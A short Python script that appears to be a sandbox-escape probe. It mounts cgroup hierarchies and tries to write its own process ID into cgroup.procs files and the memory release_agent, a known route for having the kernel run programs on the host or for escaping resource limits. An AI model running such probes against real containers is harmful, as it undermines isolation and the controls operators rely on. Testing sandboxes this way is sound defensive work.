# Mounts a hierarchy of cgroups to have the kernel start a program on the host, or to leave its limits.
import ctypes
import glob
import os
from attempt import attempt
from calls import checked, libc

os.makedirs("/tmp/groups", exist_ok=True)
for kind, options in ((b"cgroup", b"memory"), (b"cgroup", b"none,name=own"), (b"cgroup2", None)):
    attempt(f"mount {kind.decode()}", lambda: checked(libc.mount(b"x", b"/tmp/groups", kind, ctypes.c_ulong(0), options)))
places = glob.glob("/sys/fs/cgroup/**/cgroup.procs", recursive=True)[:20] or ["/sys/fs/cgroup/cgroup.procs"]
for place in places + ["/sys/fs/cgroup/memory/release_agent"]:

    def leave():
        with open(place, "w") as file:
            file.write(str(os.getpid()))

    attempt(place, leave)
